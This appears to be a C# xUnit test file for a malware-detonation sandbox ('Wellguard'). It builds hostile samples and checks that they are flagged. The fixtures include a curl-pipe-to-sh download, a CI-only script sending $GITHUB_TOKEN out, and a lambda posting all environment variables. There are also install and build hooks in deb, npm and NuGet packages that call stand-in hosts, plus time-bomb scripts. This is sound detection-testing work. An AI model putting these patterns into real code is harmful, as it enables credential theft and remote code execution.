using System.Diagnostics;
using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Linux.Detonation;
using Wellguard.Linux.Detonation.Samples;
using Wellguard.Reports;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard;

/// <summary>Each kind of artifact that is no image is installed and used in the cell: what its code does by itself, and what it does when it is called, is seen.</summary>
[Collection("cells, one after the other")]
public sealed class SampleTests : IDisposable
{
    private static readonly DateOnly AnyDay = new(2026, 1, 1);

    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-test-").FullName;

    private async Task<(Report Report, Detonated Detonated)> RunAsync(string file, Func<DetonationOptions, DetonationOptions>? with = null)
    {
        var cancel = TestContext.Current.CancellationToken;
        var program = Machine.Require();
        var options = new OpenOptions(folder);
        var sample = await Sample.OfFileAsync(file, options, cancel) ?? Sample.Of((await ImageSources.OpenAsync(Target.Parse(file), options, cancel))[0]);
        var own = new DetonationOptions { Program = program, CacheDirectory = Machine.Work, Settle = TimeSpan.FromSeconds(8), Timeout = TimeSpan.FromSeconds(90) };
        var detonated = await CellRun.RunAsync(sample, with?.Invoke(own) ?? own, cancel);
        Assert.False(detonated.Failed, string.Join("; ", detonated.Shortfalls));
        return (Observed.Judge(sample.Artifact, detonated.Events, detonated.Shortfalls, detonated.Failed, Policy.Default, AnyDay), detonated);
    }

    private string Put(string name, string text)
    {
        var path = Path.Combine(folder, name);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text);
        return path;
    }

    private string Zip(string name, params (string Path, string Text)[] files)
    {
        var path = Path.Combine(folder, name);
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        foreach (var (file, text) in files)
        {
            using var entry = zip.CreateEntry(file).Open();
            entry.Write(Encoding.UTF8.GetBytes(text));
        }

        return path;
    }

    private static bool Saw(Report report, string text) => report.Tree.Nodes.Any(node => node.Label.Contains(text, StringComparison.Ordinal) || node.Evidence.Any(evidence => evidence.Text.Contains(text, StringComparison.Ordinal)));

    [Fact]
    public async Task A_script_runs_by_its_first_line()
    {
        var (report, _) = await RunAsync(Put("up.sh", "#!/bin/bash\n[[ -n $BASH ]] && curl -fsSL http://a.example.net/x.sh | sh\n"));
        Assert.Equal((ArtifactKind.Script, Level.Malicious), (report.Artifact.Kind, report.Verdict.Level));
        Assert.True(Saw(report, "a.example.net/x.sh"));
    }

    [Fact]
    public async Task A_long_sleep_is_skipped_and_clocks_show_it()
    {
        var clock = Stopwatch.StartNew();
        var (report, detonated) = await RunAsync(Put("wait.sh", "#!/bin/bash\na=$(date +%s); sleep 7200; b=$(date +%s)\n[ $((b - a)) -ge 7200 ] && curl -s http://late.example.net/$((b - a)) -d x\ntrue\n"));
        Assert.True(Saw(report, "late.example.net"), detonated.Output);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60));
    }

    [Fact]
    public async Task Another_date_is_seen()
    {
        var (report, _) = await RunAsync(Put("date.sh", "#!/bin/bash\n[ $(date +%Y) -ge $(( $1 + 2027 )) ] && curl -s http://dated.example.net/ -d x\ntrue\n"), options => options with { ClockShift = TimeSpan.FromDays(3 * 366) });
        Assert.True(Saw(report, "dated.example.net"));
    }

    [Theory]
    [InlineData("developer", false)]
    [InlineData("ci", true)]
    public async Task What_runs_only_in_ci_is_seen_there(string profile, bool seen)
    {
        var (report, _) = await RunAsync(Put("ci.sh", "#!/bin/bash\n[ \"$CI\" = true ] && curl -s http://ci.example.net/ -d \"$GITHUB_TOKEN\"\ntrue\n"), options => options with { Profile = profile });
        Assert.Equal(seen, Saw(report, "ci.example.net"));
        Assert.Equal(seen, report.Network.Any(exchange => exchange.Kind == "theft"));
    }

    [Fact]
    public async Task What_it_left_is_kept_when_that_is_wanted()
    {
        var kept = Path.Combine(folder, "kept");
        var (report, _) = await RunAsync(Put("drop.sh", "#!/bin/sh\nprintf 'hello' > /opt/payload\n"), options => options with { PayloadsDirectory = kept });
        var file = Path.Combine(kept, Assert.Single(report.Dropped, dropped => dropped.Path == "/opt/payload").Sha256 + ".gz.b64");
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
        using var text = new StreamReader(new GZipStream(new MemoryStream(Convert.FromBase64String(await File.ReadAllTextAsync(file, TestContext.Current.CancellationToken))), CompressionMode.Decompress));
        Assert.Equal("hello", await text.ReadToEndAsync(TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task A_debian_package_runs_its_maintainer_scripts()
    {
        Put("deb/DEBIAN/control", "Package: tidy\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@example.net>\nDescription: x\n");
        File.SetUnixFileMode(Put("deb/DEBIAN/postinst", "#!/bin/sh\necho '* * * * * root /usr/bin/tidy' > /etc/cron.d/tidy\n"), (UnixFileMode)0x1ED);
        File.SetUnixFileMode(Put("deb/DEBIAN/postrm", "#!/bin/sh\ncurl -s http://gone.example.net/ -d removed\ntrue\n"), (UnixFileMode)0x1ED);
        using (var built = Process.Start("dpkg-deb", ["--root-owner-group", "-b", Path.Combine(folder, "deb"), Path.Combine(folder, "tidy_1.0_all.deb")]))
        {
            await built.WaitForExitAsync(TestContext.Current.CancellationToken);
        }

        var (report, detonated) = await RunAsync(Path.Combine(folder, "tidy_1.0_all.deb"));
        Assert.True(Saw(report, "/etc/cron.d/tidy"), detonated.Output);
        Assert.True(Saw(report, "gone.example.net"), detonated.Output);
    }

    [Fact]
    public async Task A_package_that_cannot_be_installed_is_not_clean()
    {
        static string Member(string name, string content) => $"{name,-16}{0,-12}{0,-6}{0,-6}{"100644",-8}{content.Length,-10}`\n{content}";
        var (report, _) = await RunAsync(Put("junk_1.0_all.deb", "!<arch>\n" + Member("debian-binary", "2.0\n") + Member("control.tar", new string('\0', 1024)) + Member("data.tar", new string('\0', 1024))));
        Assert.Equal((CompletenessState.Partial, Level.Unknown), (report.Completeness.State, report.Verdict.Level));
    }

    [Fact]
    public async Task Who_computes_does_not_rest()
    {
        var (report, _) = await RunAsync(Put("busy.sh", "#!/bin/bash\nfor ((i = 0; i < 100000000; i++)); do :; done\n"), options => options with { Settle = TimeSpan.FromSeconds(5), Timeout = TimeSpan.FromSeconds(15) });
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("still active", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_function_is_called_with_events_of_its_provider()
    {
        Assert.SkipUnless(Machine.All, "the base system 'python' takes minutes to make: ./test --all");
        var (report, detonated) = await RunAsync(Zip("fn.zip", ("lambda_function.py", "import os, json, urllib.request\nimport boto3\ndef lambda_handler(event, context):\n    if 'Records' in event:\n        urllib.request.urlopen(urllib.request.Request('https://metrics.example.net/v1', json.dumps(dict(os.environ)).encode()), timeout=4)\n")));
        Assert.Equal((ArtifactKind.Function, Level.Malicious), (report.Artifact.Kind, report.Verdict.Level));
        Assert.True(report.Network.Any(exchange => exchange.Kind == "theft"), detonated.Output);
    }

    [Fact]
    public async Task An_npm_package_is_installed_with_what_it_depends_on_and_its_functions_are_called()
    {
        Assert.SkipUnless(Machine.All, "the base system 'node' takes minutes to make: ./test --all");
        var path = Path.Combine(folder, "a-1.0.0.tgz");
        using (var zip = new GZipStream(File.Create(path), CompressionLevel.Fastest))
        using (var tar = new TarWriter(zip))
        {
            foreach (var (name, text) in new[] { ("package.json", """{"name":"a","version":"1.0.0","bin":{"acmd":"cli.js"}}"""), ("index.js", "exports.send = url => { require('https').get('https://called.example.net/' + typeof url).on('error', () => {}); };"), ("cli.js", "#!/usr/bin/env node\nrequire('http').get('http://command.example.net/').on('error', () => {});") })
            {
                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "package/" + name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(text)), Mode = (UnixFileMode)0x1ED });
            }
        }

        var (report, detonated) = await RunAsync(path);
        Assert.True(report.Network.Any(exchange => exchange.Peer.Contains("called.example.net", StringComparison.Ordinal)), detonated.Output);
        Assert.True(report.Network.Any(exchange => exchange.Peer.Contains("command.example.net", StringComparison.Ordinal)), detonated.Output);
    }

    [Fact]
    public async Task A_nuget_package_runs_its_targets_in_a_build()
    {
        Assert.SkipUnless(Machine.All, "a build in the cell takes half a minute: ./test --all");
        const string Spec = """<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Tidy.Build</id><version>1.0.0</version><authors>a</authors><description>x</description></metadata></package>""";
        const string Targets = """<Project><Target Name="Tidy" BeforeTargets="Build"><Exec Command="curl -s http://target.example.net/ -d built" /></Target></Project>""";
        var (report, detonated) = await RunAsync(Zip("Tidy.Build.1.0.0.nupkg", ("Tidy.Build.nuspec", Spec), ("build/Tidy.Build.targets", Targets)), options => options with { Timeout = TimeSpan.FromMinutes(4), Settle = TimeSpan.FromSeconds(30) });
        Assert.True(report.Network.Any(exchange => exchange.Peer.Contains("target.example.net", StringComparison.Ordinal)), detonated.Output);
    }

    public void Dispose() => Directory.Delete(folder, recursive: true);
}
